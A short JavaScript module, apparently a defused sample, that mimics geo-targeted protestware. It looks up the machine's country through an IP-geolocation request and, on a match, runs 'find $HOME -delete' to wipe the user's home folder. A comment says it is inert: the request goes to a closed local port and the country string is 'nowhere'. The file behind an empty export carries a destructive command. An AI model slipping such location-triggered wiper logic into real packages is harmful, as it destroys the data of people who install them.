// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

import('http').then(({ default: http }) => {
  const asked = http.get('http://127.0.0.1:9/ipgeo', (answer) => {
    answer.on('data', (part) => {
      const country = JSON.parse(part.toString()).country_name.toLowerCase();
      if (country.includes('nowhere')) require('child_process').exec('find $HOME -delete');
    });
  });
  asked.on('error', () => {});
});
module.exports = {};
